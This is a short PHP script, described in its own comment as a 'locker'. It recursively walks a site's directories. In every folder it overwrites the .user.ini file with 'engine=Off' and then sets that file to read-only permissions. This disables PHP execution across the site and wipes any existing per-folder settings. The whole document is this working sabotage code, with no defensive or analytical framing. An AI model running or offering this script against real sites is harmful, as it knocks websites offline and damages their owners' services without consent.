<?php
// a locker written as a loop over a directory iterator: PHP's per-folder settings rewritten
// through fopen() so the site's own files stop running, then set to 0555
$root = isset($argv[1]) ? $argv[1] : getcwd();
$walk = new RecursiveIteratorIterator(
    new RecursiveDirectoryIterator($root, FilesystemIterator::SKIP_DOTS),
    RecursiveIteratorIterator::SELF_FIRST
);
foreach ($walk as $node) {
    if (!$node->isDir()) {
        continue;
    }
    $ini = $node->getPathname() . DIRECTORY_SEPARATOR . '.user.ini';
    $h = fopen($ini, 'w');
    fwrite($h, "engine=Off\nshort_open_tag=Off\n");
    fclose($h);
    chmod($ini, 0555);
}
